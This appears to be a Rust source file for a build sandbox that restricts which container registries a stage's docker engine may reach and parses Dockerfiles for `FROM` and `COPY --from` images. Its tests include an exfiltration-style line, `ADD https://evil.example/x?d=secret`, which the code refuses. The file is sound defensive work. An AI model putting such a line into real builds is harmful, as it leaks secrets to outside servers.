//! Which registries the container engine may reach for a stage
//! (`permissions.registries`), and which registries an image reference or a
//! Dockerfile names.
//!
//! The engine (dockerd) pulls with its own network and credentials, outside the
//! stage's `http` grant: without this check, a stage with `engine: true` could
//! make dockerd send a request, with data in the image name, to any server.
//! So every reference the engine would fetch is checked here first: `pull`'s
//! reference, and a build's base images (`FROM`) and `COPY --from` images.
//! `ADD <url>` is refused outright (the engine would download it), and a
//! build's `RUN` steps get no network (see `engine.rs`).

use super::configure_names;
use crate::manifest::{ManifestError, ManifestFile, Permissions};
use std::collections::HashMap;

/// Docker Hub's registry as references name it (`alpine` is `docker.io/library/alpine`).
pub const DOCKER_HUB: &str = "docker.io";

#[derive(Debug, Clone, Default)]
pub struct RegistriesGrant {
    /// Lower-case `host[:port]`, or `*.domain` for any subdomain of domain.
    pub registries: Vec<String>,
}

impl RegistriesGrant {
    pub fn configure(
        file: &ManifestFile,
        field: &str,
        perms: &Permissions,
        errors: &mut Vec<ManifestError>,
    ) -> Self {
        let check = |text: &str| -> Result<(), (String, Option<String>)> {
            if let Some((_, rest)) = text.split_once("://") {
                return Err((
                    format!("`{text}` is a URL; registries are granted as host[:port]"),
                    Some(format!("write `{}`", rest.trim_end_matches('/'))),
                ));
            }
            let host = text.strip_prefix("*.").unwrap_or(text);
            let valid = !host.is_empty()
                && !host.contains('*')
                && !host.contains(['/', '@', '?', '#'])
                && !host.chars().any(char::is_whitespace);
            if valid {
                Ok(())
            } else {
                Err((
                    format!("`{text}` is not a registry"),
                    Some("write host[:port] as in an image reference, e.g. `127.0.0.1:5000`, `docker.io` or `*.azurecr.io`".into()),
                ))
            }
        };
        let mut registries = configure_names(
            file,
            &format!("{field}.registries"),
            &perms.registries,
            check,
            errors,
        );
        let engine = perms.engine.as_ref().is_some_and(|g| g.value);
        if let (Some(first), false) = (perms.registries.first(), engine) {
            errors.push(file.error(
                &first.referenced,
                &format!("{field}.registries"),
                "registries are reached through the container engine, which this stage is not granted",
                Some("add `engine: true`, or remove `registries`".into()),
            ));
        }
        for r in &mut registries {
            *r = normalize(r);
        }
        Self { registries }
    }

    pub fn allows(&self, registry: &str) -> bool {
        let registry = normalize(registry);
        self.registries.iter().any(|g| match g.strip_prefix("*.") {
            Some(suffix) => {
                registry.len() > suffix.len() + 1 && registry.ends_with(&format!(".{suffix}"))
            }
            None => *g == registry,
        })
    }
}

/// Lower case, and Docker Hub's other names as `docker.io`.
fn normalize(registry: &str) -> String {
    let r = registry.to_ascii_lowercase();
    match r.as_str() {
        "index.docker.io" | "registry-1.docker.io" => DOCKER_HUB.into(),
        _ => r,
    }
}

/// The registry a reference names, by Docker's rule: the first path component
/// is a registry when it has a `.` or a `:`, or is `localhost`; otherwise the
/// reference is on Docker Hub.
pub fn registry_of(reference: &str) -> String {
    match reference.split_once('/') {
        Some((first, _)) if first.contains(['.', ':']) || first == "localhost" => normalize(first),
        _ => DOCKER_HUB.into(),
    }
}

/// Read `text` as the engine's classic builder would, far enough to list the
/// images it fetches (`FROM`, `COPY --from`), after build-argument expansion,
/// without `scratch` and the file's own stages. `args` are the build's `--build-arg`s. A reference that still holds
/// a variable after expansion, and `ADD` from a URL, are errors: what the
/// engine would fetch must be known before it starts.
pub fn dockerfile_images(text: &str, args: &[(String, String)]) -> Result<Vec<String>, String> {
    let escape = escape_directive(text);
    let given: HashMap<&str, &str> = args.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    // Arguments declared before the first FROM are the only ones FROM sees.
    let mut global: HashMap<String, String> = HashMap::new();
    let mut stages: Vec<String> = vec![];
    let mut seen_from = false;
    let mut images = vec![];
    for (line_no, line) in instructions(text, escape) {
        let mut words = line.split_whitespace();
        let Some(keyword) = words.next() else {
            continue;
        };
        let rest: Vec<&str> = words.collect();
        let at = |what: String| format!("Dockerfile line {line_no}: {what}");
        match keyword.to_ascii_uppercase().as_str() {
            "ARG" if !seen_from => {
                for decl in &rest {
                    let (name, default) = match decl.split_once('=') {
                        Some((n, d)) => (n, Some(unquote(d))),
                        None => (*decl, None),
                    };
                    let value = given
                        .get(name)
                        .map(|v| v.to_string())
                        .or(default.map(str::to_string));
                    if let Some(v) = value {
                        global.insert(name.to_string(), v);
                    }
                }
            }
            "FROM" => {
                seen_from = true;
                let mut words = rest.iter().filter(|w| !w.starts_with("--"));
                let Some(image) = words.next() else {
                    return Err(at("FROM names no image".into()));
                };
                let image = expand(image, &global).map_err(at)?;
                let own_stage = stages.contains(&image.to_ascii_lowercase());
                if !own_stage && !image.eq_ignore_ascii_case("scratch") {
                    images.push(image);
                }
                if let (Some(kw), Some(name)) = (words.next(), words.next())
                    && kw.eq_ignore_ascii_case("as")
                {
                    stages.push(name.to_ascii_lowercase());
                }
            }
            "COPY" | "ADD" => {
                for flag in rest.iter().take_while(|w| w.starts_with("--")) {
                    let Some(from) = flag.strip_prefix("--from=") else {
                        continue;
                    };
                    let from = unquote(from);
                    if from.contains('$') {
                        return Err(at(format!(
                            "`--from={from}` holds a variable; name the stage or image as text"
                        )));
                    }
                    let is_stage = from.parse::<usize>().is_ok()
                        || stages.contains(&from.to_ascii_lowercase());
                    if !is_stage {
                        images.push(from.to_string());
                    }
                }
                if keyword.eq_ignore_ascii_case("ADD") {
                    let sources = rest.iter().filter(|w| !w.starts_with("--"));
                    if let Some(url) = sources
                        .map(|w| unquote(w.trim_start_matches('[').trim_end_matches([']', ','])))
                        .find(|w| is_remote(w))
                    {
                        return Err(at(format!(
                            "`ADD {url}` would make the engine download it outside the stage's grants; download it in a stage granted `http` and COPY the file"
                        )));
                    }
                }
            }
            _ => {}
        }
    }
    Ok(images)
}

fn is_remote(source: &str) -> bool {
    let lower = source.to_ascii_lowercase();
    ["http://", "https://", "git@", "git://", "ssh://"]
        .iter()
        .any(|p| lower.starts_with(p))
}

fn unquote(s: &str) -> &str {
    s.trim_matches('"').trim_matches('\'')
}

/// The escape character from a `# escape=` parser directive, else `\`.
fn escape_directive(text: &str) -> char {
    for line in text.lines() {
        let Some(comment) = line.trim().strip_prefix('#') else {
            break;
        };
        let comment = comment.trim();
        if let Some(value) = comment
            .split_once('=')
            .filter(|(k, _)| k.trim().eq_ignore_ascii_case("escape"))
            .map(|(_, v)| v.trim())
        {
            return value.chars().next().unwrap_or('\\');
        }
    }
    '\\'
}

/// Logical instructions with the line they start on: continuation lines
/// joined, comments and blank lines dropped.
fn instructions(text: &str, escape: char) -> Vec<(usize, String)> {
    let mut out = vec![];
    let mut current: Option<(usize, String)> = None;
    for (i, raw) in text.lines().enumerate() {
        let trimmed = raw.trim();
        if trimmed.starts_with('#') || (trimmed.is_empty() && current.is_none()) {
            continue;
        }
        let (body, continues) = match trimmed.strip_suffix(escape) {
            Some(body) => (body, true),
            None => (trimmed, false),
        };
        let entry = current.get_or_insert_with(|| (i + 1, String::new()));
        entry.1.push(' ');
        entry.1.push_str(body);
        if !continues {
            out.extend(current.take());
        }
    }
    out.extend(current);
    out
}

/// `$NAME`, `${NAME}`, `${NAME:-word}` and `${NAME:+word}` from `vars`, as the
/// builder expands them; what cannot be known is an error.
fn expand(word: &str, vars: &HashMap<String, String>) -> Result<String, String> {
    let mut out = String::new();
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (expr, tail) = if let Some(inner) = after.strip_prefix('{') {
            let end = inner
                .find('}')
                .ok_or_else(|| format!("`{word}` has an unclosed `${{`"))?;
            (&inner[..end], &inner[end + 1..])
        } else {
            let end = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(after.len());
            (&after[..end], &after[end..])
        };
        let value = match expr.split_once(":-").or_else(|| expr.split_once(":+")) {
            Some((name, alt)) if expr.contains(":-") => vars
                .get(name)
                .filter(|v| !v.is_empty())
                .cloned()
                .unwrap_or_else(|| alt.to_string()),
            Some((name, alt)) => {
                if vars.get(name).is_some_and(|v| !v.is_empty()) {
                    alt.to_string()
                } else {
                    String::new()
                }
            }
            None => vars.get(expr).cloned().ok_or_else(|| {
                format!("`{word}`: the build argument `{expr}` has no value; declare it with a default before the first FROM or pass it as a build argument")
            })?,
        };
        if value.contains('$') {
            return Err(format!("`{word}`: `{expr}` expands to another variable"));
        }
        out.push_str(&value);
        rest = tail;
    }
    out.push_str(rest);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn images(text: &str, args: &[(&str, &str)]) -> Result<Vec<String>, String> {
        let args: Vec<(String, String)> = args
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        dockerfile_images(text, &args)
    }

    #[test]
    fn references_name_their_registry_by_docker_s_rule() {
        assert_eq!(registry_of("alpine"), "docker.io");
        assert_eq!(registry_of("library/alpine:3"), "docker.io");
        assert_eq!(registry_of("127.0.0.1:5000/a/b:1"), "127.0.0.1:5000");
        assert_eq!(registry_of("localhost/a"), "localhost");
        assert_eq!(
            registry_of("Team.AzureCR.io/app@sha256:00"),
            "team.azurecr.io"
        );
        assert_eq!(registry_of("index.docker.io/library/alpine"), "docker.io");
    }

    #[test]
    fn grants_match_exactly_or_by_subdomain() {
        let g = RegistriesGrant {
            registries: vec![
                "127.0.0.1:5000".into(),
                "*.azurecr.io".into(),
                "docker.io".into(),
            ],
        };
        assert!(g.allows("127.0.0.1:5000"));
        assert!(!g.allows("127.0.0.1:5001"));
        assert!(g.allows("team.azurecr.io"));
        assert!(!g.allows("azurecr.io"));
        assert!(!g.allows("evil.io"));
        assert!(g.allows("registry-1.docker.io"));
        assert!(!RegistriesGrant::default().allows("docker.io"));
    }

    #[test]
    fn a_dockerfile_lists_base_and_copy_from_images_but_not_its_own_stages() {
        let text = "# syntax comment\nARG BASE=rust:1.85\nARG REG\nFROM ${BASE} AS build\nRUN cargo build \\\n  --release\nFROM scratch\nCOPY --from=build /x /x\nCOPY --from=0 /y /y\nCOPY --from=127.0.0.1:5000/tools:1 /z /z\nFROM build\n";
        assert_eq!(
            images(text, &[]).unwrap(),
            vec!["rust:1.85".to_string(), "127.0.0.1:5000/tools:1".into()]
        );
        assert_eq!(
            images(text, &[("BASE", "evil.example:1/x")]).unwrap()[0],
            "evil.example:1/x"
        );
    }

    #[test]
    fn what_cannot_be_known_before_the_build_is_refused() {
        let unknown = images("FROM $REG/app\n", &[]).unwrap_err();
        assert!(
            unknown.contains("line 1") && unknown.contains("`REG` has no value"),
            "{unknown}"
        );
        // An ARG after FROM is not seen by FROM.
        assert!(images("FROM alpine\nARG X=a\nFROM $X\n", &[]).is_err());
        let add = images(
            "FROM scratch\nADD https://evil.example/x?d=secret /x\n",
            &[],
        )
        .unwrap_err();
        assert!(
            add.contains("line 2") && add.contains("ADD https://evil.example"),
            "{add}"
        );
        assert!(images("FROM scratch\nCOPY --from=$X /a /a\n", &[]).is_err());
        assert_eq!(
            images("FROM ${X:-alpine:3}\n", &[]).unwrap(),
            vec!["alpine:3".to_string()]
        );
        assert_eq!(
            images("# escape=`\nFROM `\n  alpine\n", &[]).unwrap(),
            vec!["alpine".to_string()]
        );
    }
}
